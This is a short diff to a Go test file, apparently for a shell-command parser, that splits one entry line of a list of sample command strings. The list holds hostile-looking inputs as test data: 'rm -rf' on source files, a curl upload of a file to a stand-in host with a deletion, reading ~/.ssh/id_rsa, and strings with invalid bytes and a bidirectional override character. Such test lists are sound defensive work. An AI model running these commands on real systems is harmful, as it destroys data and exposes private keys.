@@ -23,7 +23,8 @@ func TestMain(m *testing.M) { os.Exit(hermetic.Tests(m).Run()) }
 var lines = []string{
 	"ls", "", "if then", "rm -rf src/*.go && echo x > y", "sh s.sh", "make", "npm run build",
 	"curl -sT a.txt https://x.test/in | python3 -c 'import os; os.remove(\"a\")'",
-	"cat ~/.ssh/id_rsa", "git push origin main", "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
+	"cat ~/.ssh/id_rsa", "git push origin main",
+	"for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
 	"A=1 env B=2 sudo -u x cat 'a\xffb'", "python3 - <<'E'\nprint(1)\nE\n", "cat a\u202eb",
 }
 
